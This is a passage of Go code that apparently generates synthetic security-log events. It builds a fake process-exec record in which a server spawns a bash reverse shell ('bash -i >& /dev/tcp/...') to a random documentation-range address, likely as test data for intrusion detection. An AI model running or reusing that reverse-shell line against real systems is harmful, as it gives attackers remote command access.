	line := fmt.Sprintf("bash -i >& /dev/tcp/203.0.113.%d/%d 0>&1", 1+a.r.IntN(254), 1024+a.r.IntN(60000))
	a.pid += 2
	p := &proc{pid: a.pid, entity: a.entityID(), name: "bash", exe: "/usr/bin/bash", args: []string{"bash", "-c", line},
		cwd: release, user: appUser, start: at.UTC().Format(time.RFC3339Nano), parent: server}
	ev := a.base(at, "process", "exec", "exec/ebpf", "start")
	f := p.fields()
	f["command_line"] = "bash -c " + line
	ev["process"] = f
	ev["user"] = map[string]any{"id": appUser.id, "name": appUser.name}
	ev["message"] = fmt.Sprintf("%s (pid %d) executed bash -c %s", server.name, p.pid, line)
	return ev
}
